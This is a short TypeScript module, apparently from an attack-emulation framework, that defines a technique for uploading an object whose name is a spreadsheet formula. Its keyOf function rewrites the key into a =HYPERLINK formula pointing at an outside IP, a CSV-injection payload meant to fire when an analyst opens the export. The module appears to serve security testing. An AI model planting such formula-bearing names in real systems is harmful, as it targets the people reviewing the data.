import { upload } from '../../../upload.ts';
import { utf8 } from '../../../utf8.ts';

/** A name that is a formula to the spreadsheet it is exported to. */
export const technique = upload({
  id: 'execution.formula-key-upload',
  title: 'Upload an object whose name is a formula',
  purpose: 'The analyst who opens the export runs what the name says.',
  mitre: ['T1204.002'],
  sources: [
    {
      title: 'User Execution: Malicious File, MITRE ATT&CK',
      url: 'https://attack.mitre.org/techniques/T1204/002/',
    },
    {
      title: 'CSV Injection, OWASP',
      url: 'https://owasp.org/www-community/attacks/CSV_Injection',
    },
  ],
  contentType: 'text/plain',
  payload: () => utf8(CONTENT),
  keyOf: (asked) => asked.replace(/[^/]*$/, '=HYPERLINK("http:__192.0.2.66_","$&")'),
});

/** Harmless: the name is the point. */
const CONTENT = 'The name of this object is the point of it.\n';
